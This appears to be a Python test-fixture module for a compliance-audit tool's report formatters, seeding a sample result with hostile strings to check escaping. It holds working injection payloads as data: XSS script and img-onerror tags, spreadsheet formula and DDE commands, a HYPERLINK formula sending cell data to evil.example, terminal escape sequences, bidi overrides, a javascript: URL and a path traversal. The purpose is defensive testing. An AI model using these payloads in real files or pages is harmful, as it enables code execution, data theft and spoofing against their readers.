"""Results for the report-format tests: the hostile sample made more hostile, and the demo.

``tests/data/result_sample.json`` already carries Rich markup, ANSI/OSC escapes,
``<script>``, an ``=HYPERLINK`` formula, an RTL override and zero-width characters.
:func:`hostile_result` adds the parts that sample lacks (``people``, ``frameworks``,
``unrecognised``, a suppressed finding) and puts a hostile string in every place a
format might forget to escape: ids, departments, external targets, phone numbers,
framework names, and characters XML cannot carry at all.
"""

from __future__ import annotations

import copy
import functools
import json
import tempfile
from pathlib import Path
from typing import Any

from click.testing import CliRunner

DATA = Path(__file__).parent / "data"
SAMPLE = DATA / "result_sample.json"

SCRIPT = "<script>alert('x')</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Calendar Sync")'
DDE = "=cmd|' /C calc'!A0"
PLUS, MINUS, AT = "+SUM(1+1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)"
TAB_FORMULA = "\t=1+1"
ANSI = "\x1b[31mred\x1b[0m"
OSC8 = "\x1b]8;;http://evil\x1b\\click\x1b]8;;\x1b\\"
RTL = "Exec \u202eOffice"
ZERO_WIDTH = "Fin\u200bance\ufeff"
XML_BREAKERS = "bad\x00\x01\x0b\ufffe\uffff\ud800 chars"
MARKDOWN = "**bold** _it_ `code` [link](http://evil.example) ![img](x) | pipe # www.evil.example"

#: Every hostile string, for "none of these survives raw" assertions.
HOSTILE_STRINGS = (SCRIPT, IMG, FORMULA, DDE, PLUS, MINUS, AT, TAB_FORMULA, ANSI, OSC8, RTL,
                   ZERO_WIDTH, XML_BREAKERS, MARKDOWN)
#: Characters no text format may emit raw (escape sequences, bidi, invisible, XML-illegal).
FORBIDDEN_CHARS = ("\x1b", "\x9b", "\u202e", "\u200b", "\ufeff", "\x00", "\x01", "\x0b",
                   "\ufffe", "\uffff")


def sample() -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(SAMPLE.read_text("utf-8"))
    return doc


def hostile_result() -> dict[str, Any]:
    """The sample plus people, frameworks, unrecognised and hostile text everywhere."""
    doc = sample()
    doc["run"]["organisation"]["name"] = f"Northmoor {SCRIPT} {ANSI}"
    doc["platforms"][1]["vendor"] = DDE
    doc["platforms"][2]["name"] = PLUS
    doc["platforms"][3]["name"] = f"{IMG} {MARKDOWN}"
    doc["platforms"][4]["name"] = XML_BREAKERS
    doc["departments"][0]["name"] = MINUS
    doc["departments"][1]["name"] = AT
    doc["external_parties"][0]["target"] = f"{OSC8} {IMG}"
    doc["phone_numbers"][0]["number"] = TAB_FORMULA
    doc["phone_numbers"][1]["owner"] = FORMULA
    doc["integrations"][0]["name"] = f"{SCRIPT}{XML_BREAKERS}"
    doc["coverage"][0]["detail"] = f"{IMG} {ANSI}"
    doc["run"]["interviews"] = [{"source": f"{SCRIPT} {OSC8} {FORMULA} {RTL}", "entries": 2}]
    doc["capabilities"][2]["secondary_platforms"] = [{"id": "whatsapp",
                                                      "name": f"{IMG} {ANSI} {MARKDOWN}"}]
    finding = doc["findings"][2]
    finding["suppressed"] = True
    finding["message"] = f"{MARKDOWN} {RTL} {SCRIPT}"
    doc["findings"][0]["remediation"] = f"{FORMULA}\nthen {SCRIPT}"
    doc["findings"][0]["message"] = f"{MARKDOWN} {RTL} {ZERO_WIDTH}"
    doc["findings"][1]["subject"]["id"] = f"{RTL} {IMG} ../../etc"
    doc["rules"][0]["title"] = f"{SCRIPT} {XML_BREAKERS}"
    doc["people"] = [
        {"id": FORMULA, "department": MINUS, "platforms": ["teams", "whatsapp"]},
        {"id": "a@northmoorhomes.example", "department": AT, "platforms": ["whatsapp"]},
        {"id": f"{SCRIPT}@x", "department": ZERO_WIDTH, "platforms": ["teams", "zoom", "8x8"]},
        {"id": "b@northmoorhomes.example", "department": XML_BREAKERS, "platforms": ["otter"]},
    ]
    doc["unrecognised"] = [{"kind": "android", "value": DDE, "label": SCRIPT, "seen": 3,
                            "connectors": ["m365"]}]
    doc["frameworks"] = [{
        "id": "uk-gdpr", "name": f"UK GDPR {SCRIPT}", "version": FORMULA,
        "publisher": f"ICO {ANSI}", "url": "javascript:alert(1)", "licence": "OGL-3.0",
        "selected": False,
        "summary": {"failed": 1, "passed": 0, "not_assessed": 1, "not_covered": 1},
        "controls": [
            {"id": "Art.32", "title": f"Security {IMG}", "status": "failed",
             "rules": [{"id": "SA-DATA-001", "status": "failed", "findings": 1},
                       {"id": "SA-CONSUMER-001", "status": "failed", "findings": 1}],
             "findings": 2, "reasons": [f"{ANSI} {DDE}"]},
            {"id": "Art.35", "title": "DPIA", "status": "not_assessed",
             "rules": [{"id": "SA-AI-001", "status": "not_assessed", "findings": 0}],
             "findings": 0, "reasons": ["evidence not collected"]},
            {"id": "Art.5(1)(e)", "title": "Storage limitation", "status": "not_covered",
             "rules": [], "findings": 0, "reasons": ["no evaluated rule cites it"]},
        ],
    }]
    return doc


@functools.lru_cache(maxsize=1)
def _demo_text() -> str:
    from sprawl_audit.cli.main import main

    with tempfile.TemporaryDirectory() as tmp:
        path = Path(tmp) / "demo.json"
        outcome = CliRunner().invoke(main, ["demo", "-f", "json", "-o", str(path)])
        assert outcome.exit_code == 0, outcome.output
        return path.read_text("utf-8")


def demo_result() -> dict[str, Any]:
    """The embedded demo's Result (computed once per test process), a fresh copy."""
    return copy.deepcopy(json.loads(_demo_text()))
